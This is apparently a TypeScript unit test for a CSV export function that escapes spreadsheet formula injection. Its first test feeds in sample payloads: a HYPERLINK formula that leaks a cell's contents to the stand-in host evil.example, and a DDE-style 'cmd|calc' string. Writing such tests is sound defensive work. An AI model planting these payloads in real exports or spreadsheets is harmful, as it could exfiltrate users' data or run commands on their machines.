import { describe, expect, it } from 'vitest'
import { toCsv } from '../src/index'

const columns = [
  { name: 'title', type: 'text', nullable: false },
  { name: 'amount', type: 'integer', nullable: true },
] as const

describe('toCsv', () => {
  it('writes a text cell a spreadsheet would run as a formula with a leading quote', () => {
    const csv = toCsv(columns, [
      ['=HYPERLINK("http://evil.example/?"&A1,"klik")', 1n],
      ['+62 812', null],
      ['@SUM(A1:A9)', null],
      ['-2+3+cmd|calc', null],
      ['\tTAB', null],
    ])
    expect(csv.split('\r\n')).toEqual([
      'title,amount',
      `"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")",1`,
      "'+62 812,",
      "'@SUM(A1:A9),",
      "'-2+3+cmd|calc,",
      "'\tTAB,",
      '',
    ])
  })

  it('leaves text that is no formula, numbers and a lone dash as they are', () => {
    const csv = toCsv(columns, [
      ['-', -5],
      ['-12.5', -12n],
      ['Bimtek = pelatihan', 0],
    ])
    expect(csv).toBe('title,amount\r\n-,-5\r\n-12.5,-12\r\nBimtek = pelatihan,0\r\n')
  })
})
